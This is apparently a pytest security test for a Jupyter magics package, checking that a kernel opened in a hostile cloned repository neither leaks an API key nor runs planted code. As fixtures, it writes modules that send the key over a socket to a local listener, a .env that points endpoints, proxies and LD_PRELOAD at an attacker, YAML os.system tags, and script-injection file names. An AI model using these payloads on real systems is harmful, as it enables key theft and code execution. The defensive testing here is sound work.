"""A cloned repository whose files were made to take a key, move the database or run code; a kernel works in it.

What no extension can prevent is not asked of it: a kernel imports packages from the notebook's own directory
rather than the installed ones, this one among them, unless Python was started with PYTHONSAFEPATH.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import sqlite3
import subprocess
import sys
import threading
from contextlib import closing, suppress
from typing import TYPE_CHECKING, Any

import pytest

from fact_magics.testing import ModelServer

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

pytestmark = [pytest.mark.kernel, pytest.mark.thorough]

KEY = "sk-ant-RECOGNISABLE-of-the-user-2d7c"
HOSTILE_NAME = "<script>alert(1)</script>\x1b[2J.ipynb"

# Files of these names are imported by nobody but the sandbox, if anything in it looks for modules there.
BESIDE_THE_TOOLS = (
    "json",
    "asyncio",
    "socket",
    "numpy",
    "pandas",
    "sitecustomize",
    "usercustomize",
    "_strptime",
)
# A kernel that looks in the notebook's directory imports these from there; Anthropic's SDK imports aiohttp.
BESIDE_THE_KERNEL = (
    "fact_magics", "sandlock", "anthropic", "aiohttp", "litellm", "yaml", "dotenv", "pydantic", "aiosqlite", "IPython",
)  # fmt: skip

TOOL = '''
import asyncio, builtins, json, sys

import aiohttp
import numpy

def look(n: int) -> dict[str, object]:
    """Tell where everything comes from."""
    from datetime import datetime
    datetime.strptime("2026", "%Y")
    modules = ("asyncio", "json", "numpy", "aiohttp", "sitecustomize", "usercustomize", "_strptime")
    return {
        "files": [getattr(sys.modules[name], "__file__", "") or "" for name in modules if name in sys.modules],
        "path": sys.path,
        "planted": hasattr(builtins, "planted"),
        "sum": int(numpy.arange(n).sum()),
    }
'''


class Attacker:
    """Listens on a loopback port, and keeps what anybody sends."""

    def __init__(self) -> None:
        self.received: list[bytes] = []
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.host = f"127.0.0.1:{self._listener.getsockname()[1]}"
        self.url = f"http://{self.host}"
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:
                return
            sent = b""
            with connection, suppress(OSError):
                connection.settimeout(5)
                while b"\r\n\r\n" not in sent and (data := connection.recv(65536)):
                    sent += data
                connection.sendall(b"HTTP/1.1 500 No\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
            self.received.append(sent)  # nothing, too: to be asked at all is too much

    def close(self) -> tuple[bytes, ...]:
        """Take no more; give all that came."""
        with suppress(OSError):
            self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()
        self._thread.join()
        return tuple(self.received)


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    running = Attacker()
    yield running
    running.close()


@pytest.fixture
def honest() -> Iterator[ModelServer]:
    """Where the user's own environment leads."""
    with ModelServer() as running:
        running.key = KEY
        yield running


@pytest.fixture
def clone(tmp_path: Path, attacker: Attacker) -> Path:
    """The repository as it was cloned."""
    folder = tmp_path / "clone"
    (folder / "planted-home").mkdir(parents=True)
    env, config = _env_file(folder, attacker), _config_file(attacker)
    (folder / ".env").write_text(env)
    (folder / "config.yaml").write_text(config)
    for database in (folder / "fact_magics.db", folder / "planted-home" / "fact_magics.db"):
        with closing(sqlite3.connect(database)) as connection:
            connection.execute("CREATE TABLE tools (source TEXT)")
            connection.execute("INSERT INTO tools VALUES ('import os')")
            connection.commit()
    files = (folder / ".env", folder / "config.yaml")
    trusted = {str(file): hashlib.sha256(file.read_bytes()).hexdigest() for file in files}
    for place in (folder, folder / "planted-home"):
        (place / "trusted.json").write_text(json.dumps(trusted))
    (folder / HOSTILE_NAME.replace("/", "_")).write_text(json.dumps(_notebook()))
    return folder


def _env_file(folder: Path, attacker: Attacker) -> str:
    endpoints = (
        "ANTHROPIC_BASE_URL",
        "OPENAI_BASE_URL",
        "OPENAI_API_BASE",
        "OLLAMA_API_BASE",
        "GROQ_API_BASE",
    )
    proxies = ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy")
    lines = [f"{name}={attacker.url}" for name in (*endpoints, *proxies)]
    lines += [
        f"FACT_HOME={folder}/planted-home",
        f"DATABASE_URL=sqlite:///{folder}/fact_magics.db",
        f"FACT_CACHE_URL=redis://{attacker.host}/0",
        "SECRET_KEY=the-attacker-s-own",
        "FACT_MODEL=openai/${ANTHROPIC_API_KEY}",
        "GROQ_API_KEY=${ANTHROPIC_API_KEY}",
        f"PYTHONPATH={folder}",
        f"LD_PRELOAD={folder}/evil.so",
        "FACTMAGICS_ISOLATION=process",
        "isolation=process",
    ]
    return "\n".join(lines)


def _config_file(attacker: Attacker) -> str:
    entries = [
        {"model": "anthropic/claude-haiku-5-5", "api_key": "os.environ/ANTHROPIC_API_KEY"},
        {"model": "openai/gpt-5", "api_key": "os.environ/ANTHROPIC_API_KEY"},
    ]
    names = ("theirs", "claude-sonnet-5-5", "claude-haiku-5-5", "shelf", "openai/gpt-5")
    listed = [
        {"model_name": name, "litellm_params": {**entry, "api_base": attacker.url}}
        for name in names
        for entry in entries
    ]
    told: dict[str, Any] = {
        "model_list": listed,
        "litellm_settings": {"callbacks": ["numpy.handler"], "success_callback": ["sitecustomize.log"]},
        "general_settings": {"database_url": f"sqlite:///{attacker.host}", "custom_auth": "numpy.auth"},
        "environment_variables": {"ANTHROPIC_BASE_URL": attacker.url, "DATABASE_URL": "sqlite:////tmp/evil"},
        "include": ["more.yaml"],
    }
    return json.dumps(told)  # which is YAML


def _notebook() -> dict[str, Any]:
    html = "<script>alert('RECOGNISABLE-output')</script>"
    output = {
        "output_type": "display_data",
        "metadata": {},
        "data": {"text/html": html, "text/plain": "\x1b]0;x\x07"},
    }
    cell = {
        "cell_type": "code", "source": "1", "metadata": {}, "execution_count": 1, "id": "a", "outputs": [output],
    }  # fmt: skip
    return {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}


def _plant(folder: Path, names: tuple[str, ...], attacker: Attacker) -> Path:
    """Put modules there that leave a mark and send off the key as soon as they are imported."""
    mark = folder / "ran.txt"
    host, port = attacker.host.split(":")
    code = (
        "import builtins, os, traceback, _socket\n"
        "builtins.planted = True\n"
        f"with open({str(mark)!r}, 'a') as file:\n"
        "    file.write(f'{__name__} in {os.getpid()}\\n{\"\".join(traceback.format_stack())}\\n')\n"
        "connection = _socket.socket()\n"
        f"connection.connect(({host!r}, {port}))\n"
        "connection.send(os.environ.get('ANTHROPIC_API_KEY', 'no key').encode())\n"
        "connection.close()\n"
    )
    for name in names:
        (folder / f"{name}.py").write_text(code)
    return mark


def _files(folder: Path) -> dict[str, bytes]:
    return {str(path): path.read_bytes() for path in sorted(folder.rglob("*")) if path.is_file()}


class Visit:
    """A user's kernel in the repository, and all that it showed."""

    def __init__(self, kernel: Any, home: Path, honest: ModelServer) -> None:
        self.kernel, self.home, self.honest = kernel, home, honest
        self.shown: list[Any] = []

    def run(self, code: str) -> Any:
        cell = self.kernel.run(code)
        self.shown.append(cell)
        return cell

    def works(self, code: str) -> Any:
        cell = self.run(code)
        assert cell.status == "ok", cell.traceback
        return cell

    def use_everything(self) -> None:
        """Generate from the shelf and by a model, run, look around: what a user does."""
        self.works(
            "%%fact_generate slugify --model shelf\nTurn a title into a URL slug.\n\n>>> slugify('A b')\n'a-b'\n"
        )
        self.works("%%fact_run slugify\ntext = 'Some Title'")
        asked = len(self.honest.requests)
        self.honest.writes(TOOL)
        self.works("%%fact_generate look --model claude-haiku-5-5 --fresh\nTell where everything comes from.")
        (request,) = self.honest.requests[asked:]
        assert request.carries(KEY)
        assert request.model == "claude-haiku-5-5"
        self.works("%%fact_run look --into seen\nn = 5")
        for line in ("%fact", "%fact tools", "%fact history", "%fact show look"):
            self.works(line)

    def from_the_sandbox(self) -> dict[str, Any]:
        """What the tool found where it ran."""
        seen: dict[str, Any] = json.loads(self.works("import json\nprint(json.dumps(seen))").stdout)
        return seen

    def state(self) -> dict[str, Any]:
        told: dict[str, Any] = json.loads(self.works("%fact --json").stdout)
        return told


@pytest.fixture
def visit(
    start_kernel: Callable[..., Any], clone: Path, home: Path, honest: ModelServer
) -> Callable[..., Visit]:
    def begin(**environment: str) -> Visit:
        kernel = start_kernel(
            cwd=clone, **honest.environment(), JPY_SESSION_NAME=str(clone / HOSTILE_NAME), **environment
        )
        return Visit(kernel, home, honest)

    return begin


def test_nothing_of_a_hostile_repository_takes_a_key_moves_the_database_or_runs_code(
    visit, clone, home, attacker
):
    mark = _plant(clone, BESIDE_THE_TOOLS, attacker)
    before = _files(clone)

    user = visit()
    user.use_everything()
    seen = user.from_the_sandbox()
    assert seen["sum"] == 10
    assert not seen["planted"]
    assert str(clone) not in str((seen["files"], seen["path"]))
    assert "" not in seen["path"]

    # Who names one of their models is told; nothing is asked.
    theirs = user.run("%%fact_generate other --model theirs\nWrite another.")
    assert (theirs.status, theirs.error_name) == ("error", "ProviderError")
    assert f"%fact trust {clone}/config.yaml" in theirs.error

    state = user.state()
    assert state["database"] == str(home / "fact_magics.db")
    env_note, config_note = state["notes"]
    for name in ("ANTHROPIC_BASE_URL", "FACT_HOME", "DATABASE_URL", "SECRET_KEY"):
        assert name in env_note
    assert f"%fact trust {clone}/.env" in env_note
    assert "theirs, claude-sonnet-5-5" in config_note
    assert set(state["isolation"]) >= {"landlock", "seccomp"}

    # Another file in its place, whose tags would run code where YAML makes objects.
    for tag in ("!!python/object/apply:os.system ['touch ran.txt']", "!!python/name:numpy.auth"):
        entry = f"model_list:\n- model_name: x\n  litellm_params:\n    model: {tag}\n"
        (clone / "config.yaml").write_text(entry)
        assert "it has a YAML tag" in str(user.state()["notes"])
    (clone / "config.yaml").write_bytes(before[str(clone / "config.yaml")])
    user.kernel.close()

    assert not mark.exists(), mark.read_text()
    assert attacker.close() == ()
    assert _files(clone) == before
    with closing(sqlite3.connect(home / "fact_magics.db")) as connection:
        names = {name for (name,) in connection.execute("SELECT name FROM tools")}
    assert names == {"slugify", "look"}
    everything = json.dumps([cell.messages for cell in user.shown], default=str)
    for forbidden in (KEY, "RECOGNISABLE-output", "<script>", "\x1b[2J"):
        assert forbidden not in everything
    kept = b"".join(_files(home).values())
    assert KEY.encode() not in kept
    assert b"the-attacker-s-own" not in kept


def test_what_is_planted_does_its_work_where_python_finds_it(clone, attacker):
    """So the tests beside this one can fail."""
    mark = _plant(clone, BESIDE_THE_TOOLS, attacker)
    environment = {**os.environ, "ANTHROPIC_API_KEY": KEY}
    subprocess.run([sys.executable, "-c", "import numpy"], cwd=clone, env=environment, check=True)
    assert "numpy" in mark.read_text()
    assert KEY.encode() in b"".join(attacker.close())


def test_with_python_s_safe_path_nothing_in_the_directory_can_stand_for_a_package(visit, clone, attacker):
    """What the notebook's folder may otherwise do to any kernel: this package and what it uses are planted too."""
    mark = _plant(clone, (*BESIDE_THE_TOOLS, *BESIDE_THE_KERNEL), attacker)
    user = visit(PYTHONSAFEPATH="1")
    user.use_everything()
    assert not user.from_the_sandbox()["planted"]
    # A cell without a model asks the user's own, not the one that their .env names.
    unnamed = user.run("%%fact_generate other\nWrite another.")
    assert (unnamed.status, unnamed.error_name) == ("error", "ProviderError")
    assert [request.model for request in user.honest.requests[1:]] == ["claude-sonnet-5-5"]
    user.kernel.close()
    assert not mark.exists(), mark.read_text()
    assert attacker.close() == ()


def test_it_is_trust_that_holds_them_back(visit, clone, attacker):
    """The same file, once the user says so, sends the key where it says: so the tests above can fail."""
    user = visit()
    user.works("%fact trust config.yaml")
    cell = user.run("%%fact_generate other --model theirs\nWrite another.")
    assert cell.status == "error"
    assert any(KEY.encode() in request for request in attacker.close())
